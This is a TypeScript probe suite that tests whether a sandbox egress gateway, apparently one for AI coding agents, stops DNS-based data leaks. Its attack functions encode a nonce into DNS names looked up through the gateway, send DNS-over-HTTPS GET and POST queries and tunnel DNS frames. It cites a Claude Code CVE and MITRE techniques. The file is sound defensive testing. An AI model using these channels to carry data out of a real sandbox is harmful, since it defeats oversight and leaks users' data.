import { lookup, Resolver } from 'node:dns/promises';
import type { Targets } from '../../arena/targets.ts';
import { ask, inTunnel, textOf } from '../../guest/requests.ts';
import { all, datagram, proxy, question, tunnel } from '../../guest/wire.ts';
import type { Probe } from '../probe.ts';
import { DNS_PORT, own4 } from '../ways/aims.ts';
import { askedBy, leak, leakedBy, overTcp, TYPES, framed } from './asked.ts';

/** Queries through the gateway. */

/** Queries the gateway itself for every record type, and over TCP. */
async function havingAsked(name: string): Promise<void> {
  const gateway = proxy().host;
  const resolver = new Resolver({ timeout: 500, tries: 1 });
  resolver.setServers([gateway]);
  const asked = TYPES.map((type) => resolver.resolve(name, type).catch(refuseMissing));
  await Promise.all([all(asked), overTcp({ host: gateway, port: DNS_PORT }, name)]);
}

/** Accepts an answer that the name exists without a record of this type. */
function refuseMissing({ code, message }: NodeJS.ErrnoException): void {
  if (code !== 'ENODATA') throw new Error(message);
}

/** Makes the gateway handle a name in every possible way. */
const naming = (t: Targets, name: string): Promise<void> =>
  all([
    lookup(name),
    datagram('udp4', { port: DNS_PORT, address: proxy().host }, question(name)),
    tunnel(`${name}:443`),
    ask(t, { host: name, path: '/' }),
  ]);

/** Probes with names that the gateway itself might look up. */
export const BY_GATEWAY: readonly Probe[] = [
  {
    ...leak,
    id: 'dns-gateway',
    needs: 'capture',
    claim: 'The gateway passes no question on, of whatever type, for a name that no rule allows.',
    attack: 'ask the gateway for every type of record',
    control: 'log',
    closedInTheOpen: 'whom the resolver of a plain program asks is not heard by these listeners',
    source: 'CVE-2025-55284 (Claude Code); MITRE ATT&CK T1071.004: data in names that resolvers pass on',
    run: {
      attack: (_t, nonce) => havingAsked(leakedBy(nonce)),
      control: (t, nonce) => havingAsked(askedBy(t, nonce)),
    },
  },
  {
    ...leak,
    id: 'dns-upstream',
    claim: 'The gateway does not look up a name that no rule allows.',
    attack: 'have the gateway look up a name that carries data',
    control: 'log',
    needs: 'capture',
    breach: 'carries data out in names, through the very gateway that refuses them',
    source: 'NVIDIA/OpenShell #1169; coder/httpjail #53: names are looked up before they are judged',
    run: {
      attack: (t, nonce) => naming(t, leakedBy(nonce)),
      control: (t, nonce) => naming(t, askedBy(t, nonce)),
    },
  },
];

function posted(t: Targets, host: string, name: string): Promise<void> {
  const body = question(name).toString('latin1');
  const lines = ['Content-Type: application/dns-message', `Content-Length: ${Buffer.byteLength(body)}`];
  return ask(t, { host, path: '/dns-query', method: 'POST', lines, body });
}

const overHttps = { ...leak, control: 'canary', source: 'RFC 8484: DoH' } as const;

/** Probes with queries in requests and tunnels. */
export const IN_HTTP: readonly Probe[] = [
  {
    ...overHttps,
    id: 'dns-https-get',
    claim: 'No DNS server can be asked over HTTP that no rule allows.',
    attack: 'ask by HTTP, in the URL (DoH)',
    run: {
      attack: (t, nonce) => ask(t, { host: t.names.other, path: `/dns-query?dns=${nonce}` }),
      control: (t, nonce) => ask(t, { host: t.names.http, path: `/dns-query?dns=${nonce}` }),
    },
  },
  {
    ...overHttps,
    id: 'dns-https-post',
    claim: 'No DNS server can be asked over HTTP, in a message, that no rule allows.',
    attack: 'ask by HTTP, as a message (DoH)',
    run: {
      attack: (t, nonce) => posted(t, t.names.other, leakedBy(nonce)),
      control: (t, nonce) => posted(t, t.names.http, leakedBy(nonce)),
    },
  },
  {
    ...overHttps,
    id: 'dns-tunnel',
    claim: 'No tunnel carries DNS.',
    attack: 'ask through a tunnel',
    source: 'RFC 7766: DNS over TCP; MITRE ATT&CK T1572, protocol tunnelling',
    run: {
      attack: (t, nonce) =>
        all(
          [...own4(t), t.names.http, t.names.tls].map((host) =>
            inTunnel(`${host}:${t.port}`, framed(leakedBy(nonce))),
          ),
        ),
      control: (t, nonce) =>
        inTunnel(
          `${t.names.http}:${t.port}`,
          textOf({ target: `/${nonce}`, lines: [`Host: ${t.names.http}:${t.port}`] }),
        ),
    },
  },
];
